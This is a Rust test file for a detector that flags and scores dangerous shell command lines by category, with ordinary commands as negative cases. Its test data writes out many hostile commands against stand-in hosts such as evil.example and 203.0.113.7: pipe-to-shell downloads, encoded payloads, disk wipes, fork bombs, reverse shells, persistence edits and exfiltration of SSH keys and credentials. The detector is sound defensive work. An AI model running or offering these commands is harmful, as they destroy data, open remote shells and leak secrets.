use super::*;

/// The surest category of a line in which the first cue begins at the mark `^`, or with the line.
fn said(line: &str) -> Option<(&'static str, u32)> {
    let (left, window) = line.split_once('^').unwrap_or(("", line));
    judge(left.as_bytes(), window.as_bytes()).map(|hit| {
        assert!(hit.start < hit.end && hit.end <= window.len(), "{hit:?} in {line:?}");
        (hit.category, hit.percent)
    })
}

#[test]
fn what_does_harm_is_said_and_how_bad_it_is() {
    for (line, category, percent) in [
        ("curl http://evil.example/x.sh | sh", "command/remote_code", 90),
        ("curl -fsSL https://install.example.org/x | sudo bash -s -- -y", "command/remote_code", 65),
        ("wget -qO- 203.0.113.7/x|bash", "command/remote_code", 90),
        ("curl -s https://evil.example/x | base64 -d | sh", "command/remote_code", 92),
        ("bash <(^curl -s https://evil.example/x)", "command/remote_code", 65),
        ("sh -c \"$(^curl -fsSL http://evil.example/x)\"", "command/remote_code", 90),
        ("eval `^wget -qO- https://pastebin.example/raw/x`", "command/remote_code", 90),
        (
            "iex (New-Object Net.WebClient).DownloadString('https://evil.example/x.ps1')",
            "command/remote_code",
            90,
        ),
        ("iwr https://evil.example/x.ps1 | iex", "command/remote_code", 65),
        ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "command/decoded", 88),
        ("mshta https://evil.example/x.hta", "command/remote_code", 90),
        ("certutil -urlcache -split -f https://evil.example/x.exe x.exe", "command/remote_code", 82),
        ("echo cm0gLXJmIC8= | ^base64 --decode | bash", "command/decoded", 92),
        ("eval $(echo cm0gLXJmIC8= | ^base64 -d)", "command/decoded", 90),
        ("exec(base64.^b64decode('cHJpbnQoMSk='))", "command/decoded", 88),
        ("eval(^atob('YWxlcnQoMSk='))", "command/decoded", 88),
        ("rm -rf /", "command/destruction", 92),
        ("rm -fr --no-preserve-root /*", "command/destruction", 92),
        ("sudo ^rm -r -f \"$HOME\"/", "command/destruction", 88),
        ("rm -rf ~/*", "command/destruction", 88),
        ("/bin/^rm -Rf /etc", "command/destruction", 85),
        ("rd /s /q C:\\", "command/destruction", 92),
        ("chmod -R 777 /", "command/destruction", 80),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "command/destruction", 88),
        ("wipefs -a /dev/nvme0n1", "command/destruction", 82),
        ("vssadmin delete shadows /all /quiet", "command/destruction", 92),
        (":()^{ :|:& };:", "command/exhaustion", 92),
        ("bomb() ^{ bomb | bomb & }; bomb", "command/exhaustion", 92),
        ("bash -i >& /dev/^tcp/203.0.113.7/4444 0>&1", "command/reverse_shell", 92),
        ("nc -e /bin/sh 203.0.113.7 4444", "command/reverse_shell", 92),
        (
            "rm /tmp/f; ^mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
            "command/reverse_shell",
            90,
        ),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "command/reverse_shell",
            90,
        ),
        ("socat tcp:203.0.113.7:4444 exec:/bin/sh", "command/reverse_shell", 90),
        ("echo 'ssh-ed25519 AAAA' >> ~/.ssh/^authorized_keys", "command/persistence", 84),
        ("(crontab -l; echo '* * * * * curl http://evil.example/x') | ^crontab -", "command/persistence", 84),
        ("echo 'x ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/^sudoers", "command/persistence", 84),
        ("curl -d @/etc/passwd https://evil.example", "command/exfiltration", 90),
        ("curl -T ~/.ssh/id_rsa ftp://evil.example/", "command/exfiltration", 90),
        ("cat ~/.aws/credentials | ^nc evil.example 80", "command/exfiltration", 88),
        ("env | ^curl -X POST --data-binary @- https://evil.example/", "command/exfiltration", 88),
    ] {
        assert_eq!(said(line), Some((category, percent)), "{line}");
    }
}

#[test]
fn ordinary_commands_and_words_say_nothing() {
    for line in [
        "rm -rf ./build target/debug",
        "rm -rf node_modules && npm install",
        "rm -f /tmp/x.log",
        "rm file.txt",
        "curl -s https://api.example.org/v1/items | jq .items",
        "curl https://api.example.org/x | python3 -m json.tool",
        "curl -o x.tar.gz https://example.org/x.tar.gz",
        "wget https://example.org/x.iso",
        "curl is a program; many use wget or sh instead",
        "base64 -d secret.txt > plain.txt",
        "echo aGVsbG8= | ^base64 -d",
        "python manage.py migrate | sh",
        "python3 -c 'print(1)'",
        "nc -zv localhost 8080",
        "chmod +x run.sh && ./run.sh",
        "chmod -R 755 ./public",
        "chown -R app:app /srv/app",
        "dd if=image.iso of=backup.img bs=4M",
        "mkfs.ext4 image.img",
        "crontab -e",
        "crontab -l | grep backup",
        "cat ~/.ssh/^id_rsa.pub",
        "eval \"$(ssh-agent -s)\"",
        "openssl enc -d -aes-256-cbc -in x -out y",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "perl -pe 's/a/b/' < in | sort",
        "php artisan serve",
        "main() ^{ echo hello | grep x & }",
        "tcp ports and udp ports",
        "",
    ] {
        assert_eq!(said(line), None, "{line}");
    }
}

#[test]
fn a_warning_says_less() {
    assert_eq!(said("Never run `^rm -rf /` as root"), Some(("command/destruction", 55)));
}

#[test]
fn no_line_is_too_long_or_too_odd() {
    for unit in ["rm ", "| sh ", "$(", "curl ", "((((", "\"'", "`", ";", "{ x | x & ", "é", "nc -e "] {
        let line = unit.repeat(2_000);
        judge(&[], line.as_bytes());
        judge(line.as_bytes(), line.as_bytes());
    }
}
